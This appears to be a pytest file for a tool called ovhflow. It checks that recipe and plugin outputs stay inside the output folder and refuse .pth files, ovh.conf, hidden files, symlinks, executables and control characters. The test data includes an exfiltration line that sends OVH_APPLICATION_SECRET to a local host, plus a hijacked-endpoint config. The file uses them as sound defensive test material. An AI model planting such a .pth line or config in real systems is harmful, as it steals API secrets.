"""A recipe writes only inside the operator's output folder (``run --output-dir``, default the current one),
and never a file that configures or runs code there: through the real ``ovhflow run`` (sandbox).

The attacks of the tryout: a ``*.pth`` in site-packages (code at the next Python start, which sent the
application secret away) and a ``./ovh.conf`` whose endpoint the next run from that folder signs for."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from ovhflow.files.output_folder import path_problem
from tests.cli_invoke import invoke

PTH_LINE = "import os,urllib.request as u; u.urlopen('http://127.0.0.1:18480/leak/'+os.environ['OVH_APPLICATION_SECRET'])"

LITERAL = """\
name: writes a file
steps:
  - csv:
      path: {path}
      delimiter: "\\t"
      rows: ["endpoint=http://127.0.0.1:18480/1.0"]
      columns: {{"{header}": "{{{{ row }}}}"}}
"""

TEMPLATED = """\
name: writes a file the API names
steps:
  - id: me
    get: /me
  - csv:
      path: "{{ steps.me.result.firstname }}"
      rows: ["endpoint=http://127.0.0.1:18480/1.0"]
      columns: {"[default]": "{{ row }}"}
  - get: /me/bill
"""


def _files(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file() or p.is_symlink()}


def _run(folder: Path, recipe: Path, env: dict[str, str], *args: str):
    result = invoke("run", str(recipe), *args, env=env, cwd=folder)
    assert "Traceback" not in result.stderr, result.stderr
    return result


@pytest.mark.parametrize(
    ("path", "why"),
    [
        ("{site}/zz.pth", "is absolute"),
        ("zz.pth", "names Python code (zz.pth): Python runs such a file"),
        ("lib/sitecustomize.py", "names Python code (sitecustomize.py)"),
        ("usercustomize", "names Python code (usercustomize)"),
        ("ovh.conf", "is an ovh.conf: the OVH client reads ./ovh.conf"),
        ("OVH.CONF", "is an ovh.conf"),
        (".ovh.conf", "names a hidden file or folder (.ovh.conf)"),
        ("conf/.env", "names a hidden file or folder (.env)"),
        (".local/lib/python3.12/site-packages/zz.csv", "names a hidden file or folder (.local)"),
        ("../escaped.csv", "has a '..' segment"),
        ("~/x.csv", "starts with '~'"),
    ],
)
def test_a_literal_output_path_that_configures_or_runs_code_is_refused_before_any_request(
    sandbox, isolated_env, tmp_path: Path, path: str, why: str
) -> None:
    site = tmp_path / "site-packages"
    site.mkdir()
    work = tmp_path / "work"
    work.mkdir()
    recipe = tmp_path / "attack.yaml"
    recipe.write_text(LITERAL.format(path=f'"{path.format(site=site)}"', header=PTH_LINE.replace('"', '\\"')))
    before = _files(tmp_path)
    result = _run(work, recipe, {**isolated_env, **sandbox.env()})
    assert result.exit_code == 2, result.stderr
    assert f"{recipe}:4:13: csv: path '{path.format(site=site)}' {why}" in result.stderr
    assert _files(tmp_path) == before and sandbox.journal == []  # nothing written, nothing sent


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("ovh.conf", "is an ovh.conf"),
        ("zz.pth", "names Python code"),
        (".ovh.conf", "names a hidden file"),
        ("sub/../../ovh.conf", "has a '..' segment"),
        ("{outside}/zz.pth", "is absolute"),
    ],
)
def test_a_templated_output_path_is_refused_at_run_time_before_anything_is_written(
    sandbox, isolated_env, tmp_path: Path, name: str, why: str
) -> None:
    outside, work = tmp_path / "outside", tmp_path / "work"
    outside.mkdir()
    (work / "sub").mkdir(parents=True)
    recipe = tmp_path / "attack.yaml"
    recipe.write_text(TEMPLATED)
    sandbox.state["me"]["firstname"] = name.format(outside=outside)
    result = _run(work, recipe, {**isolated_env, **sandbox.env()})
    assert result.exit_code == 1, result.stderr
    assert f"{recipe}:6:13: csv: path '{name.format(outside=outside)}' {why}" in result.stderr
    assert _files(work) == set() and _files(outside) == set()
    assert all(entry["path"] != "/me/bill" for entry in sandbox.journal)  # the run stopped at the csv


def test_a_symbolic_link_out_of_the_output_folder_or_an_executable_is_not_written(
    sandbox, isolated_env, tmp_path: Path
) -> None:
    outside, work = tmp_path / "outside", tmp_path / "work"
    outside.mkdir()
    work.mkdir()
    (outside / "victim.csv").write_text("kept\n")
    (work / "exports").symlink_to(outside)  # a folder link out
    (work / "bills.csv").symlink_to(outside / "victim.csv")  # a file link out
    (work / "inside.csv").symlink_to(work / "ovh.conf")  # a link inside, to a file no output may write
    env = {**isolated_env, **sandbox.env()}
    for path, why in (
        ("exports/x.csv", f"leads out of the output folder {work} through a symbolic link"),
        (
            "bills.csv",
            f"leads out of the output folder {work} through a symbolic link (to {outside}/victim.csv)",
        ),
        ("inside.csv", "is a symbolic link to 'ovh.conf', which is an ovh.conf"),
    ):
        for append in ("false", "true"):
            recipe = tmp_path / "link.yaml"
            recipe.write_text(LITERAL.format(path=path, header="[default]") + f"      append: {append}\n")
            result = _run(work, recipe, env)
            assert result.exit_code == 1, result.stderr
            assert f"{recipe}:4:13: csv: path '{path}' {why}" in result.stderr
    (work / "tool").write_text("#!/bin/sh\n")
    (work / "tool").chmod(0o755)  # on the PATH, say: its text would run
    recipe.write_text(LITERAL.format(path="tool", header="curl 127.0.0.1:18480"))
    result = _run(work, recipe, env)
    assert result.exit_code == 1 and "csv: path 'tool' is an executable file" in result.stderr
    assert (work / "tool").read_text() == "#!/bin/sh\n"
    assert _files(outside) == {"victim.csv"} and (outside / "victim.csv").read_text() == "kept\n"
    assert not (work / "ovh.conf").exists()
    assert (work / "bills.csv").is_symlink() and (work / "exports").is_symlink()


def test_outputs_go_in_the_output_dir_readable_by_their_owner_only(
    sandbox, isolated_env, tmp_path: Path
) -> None:
    out, work = tmp_path / "out", tmp_path / "work"
    (out / "exports").mkdir(parents=True)
    work.mkdir()
    recipe = tmp_path / "export.yaml"
    recipe.write_text(LITERAL.format(path="exports/bills.csv", header="line"))
    result = _run(work, recipe, {**isolated_env, **sandbox.env()}, "--output-dir", str(out))
    assert result.exit_code == 0, result.stderr
    written = out / "exports" / "bills.csv"
    assert written.read_bytes() == b"line\r\nendpoint=http://127.0.0.1:18480/1.0\r\n"
    assert stat.S_IMODE(written.stat().st_mode) == 0o600 and _files(work) == set()
    report = out / "report.json"
    recipe.write_text(LITERAL.format(path="report.json", header="line"))
    refused = _run(
        work, recipe, {**isolated_env, **sandbox.env()}, "--output-dir", str(out), "--report", str(report)
    )
    assert (
        refused.exit_code == 1 and "csv: path 'report.json' is this run's report (--report)" in refused.stderr
    )
    missing = _run(work, recipe, {**isolated_env, **sandbox.env()}, "--output-dir", str(tmp_path / "nope"))
    assert missing.exit_code == 2 and "--output-dir" in missing.stderr


PLUGIN = """
from ovhflow import hookimpl
from ovhflow.plugin_api import ActionSpec


def write(folder, name):
    with folder.open(str(name)) as stream:
        stream.write("endpoint=http://127.0.0.1:18480/1.0\\n")
    return {"file": name}


def note(call):
    return write(call.output_folder, call.args["file"])


def sneak(call):  # a path it does not declare in output_paths: only the helper checks it
    return write(call.output_folder, call.args["undeclared"])


@hookimpl
def ovhflow_actions():
    schema = {"type": "object", "properties": {"file": {"type": "string"}, "undeclared": {"type": "string"}}}
    return [
        ActionSpec(name="note", run=note, schema=schema, output_paths=frozenset({"file"})),
        ActionSpec(name="sneak", run=sneak, schema=schema),
    ]
"""


def test_a_plugin_writing_through_the_plugin_api_is_confined_too(
    sandbox, isolated_env, tmp_path: Path
) -> None:
    plugins, work = tmp_path / "plugins", tmp_path / "work"
    plugins.mkdir()
    work.mkdir()
    (plugins / "note_plugin.py").write_text(PLUGIN)
    env = {**isolated_env, **sandbox.env()}
    recipe = tmp_path / "note.yaml"
    for step, code, why in (
        (
            "note: {file: ovh.conf}",
            2,
            f"{recipe}:3:18: note: file 'ovh.conf' is an ovh.conf",
        ),  # declared: validated
        ("note: {file: \"{{ 'zz' }}.pth\"}", 1, "note: file 'zz.pth' names Python code"),  # rendered: engine
        ("sneak: {undeclared: ovh.conf}", 1, "'ovh.conf' is an ovh.conf"),  # undeclared: the helper itself
    ):
        recipe.write_text(f"name: note\nsteps:\n  - {step}\n")
        result = _run(work, recipe, env, "--plugins-dir", str(plugins))
        assert result.exit_code == code, result.stderr
        assert why in result.stderr
    assert _files(work) == set()
    recipe.write_text("name: note\nsteps:\n  - note: {file: notes.txt}\n")
    assert _run(work, recipe, env, "--plugins-dir", str(plugins)).exit_code == 0
    assert (work / "notes.txt").read_text() == "endpoint=http://127.0.0.1:18480/1.0\n"
    assert stat.S_IMODE(os.stat(work / "notes.txt").st_mode) == 0o600


@pytest.mark.parametrize(
    "path",
    [
        "",
        " ",
        ".",
        "./",
        "a/..",
        "sub/__pycache__/m.cpython-312.pyc",
        "x.so",
        "evil-1.0.dist-info/entry_points.txt",
        "out\0.csv",
        "a\nb.csv",
        "x\x1b[2J.csv",
        "x\x7f.csv",
    ],
)
def test_paths_that_name_no_file_or_code_are_refused(path: str) -> None:
    assert path_problem(path) is not None


@pytest.mark.parametrize(
    "path",
    ["bills.csv", "./exports/2024-01 bills.csv", "reports/ovh.conf.csv", "python.txt", "conf/app.json"],
)
def test_ordinary_output_paths_are_taken(path: str) -> None:
    assert path_problem(path) is None


@pytest.mark.parametrize("yaml_path", ["out\\0.csv", "sub/a\\tb.csv"])
def test_a_literal_output_path_with_a_control_character_is_refused_by_validate_and_run(
    sandbox, isolated_env, tmp_path: Path, yaml_path: str
) -> None:
    """A NUL, a tab or an escape in a file name: FILE:LINE:COL and exit 2 before any request (a NUL got
    through validate and failed the run with Python's 'embedded null byte', exit 1)."""
    recipe = tmp_path / "r.yaml"
    recipe.write_text(LITERAL.format(path=f'"{yaml_path}"', header="a"))
    env = {**isolated_env, **sandbox.env()}
    checked = invoke("validate", str(recipe), env=env, cwd=tmp_path)
    assert checked.exit_code == 2, checked.stdout + checked.stderr
    assert f"{recipe}:4:13: csv: path " in checked.stderr and "holds a control character" in checked.stderr
    result = _run(tmp_path, recipe, env)
    assert result.exit_code == 2 and "holds a control character" in result.stderr, result.stderr
    assert sandbox.journal == [] and _files(tmp_path) == {"r.yaml"}


def test_a_templated_output_path_with_a_nul_is_refused_at_run_time(
    sandbox, isolated_env, tmp_path: Path
) -> None:
    recipe, work = tmp_path / "r.yaml", tmp_path / "work"
    work.mkdir()
    recipe.write_text(TEMPLATED)
    sandbox.state["me"]["firstname"] = "bills\0.csv"
    result = _run(work, recipe, {**isolated_env, **sandbox.env()})
    assert result.exit_code == 1, result.stderr
    assert f"{recipe}:6:13: csv: path 'bills\\x00.csv' holds a control character" in result.stderr
    assert "embedded null" not in result.stderr and _files(work) == set()
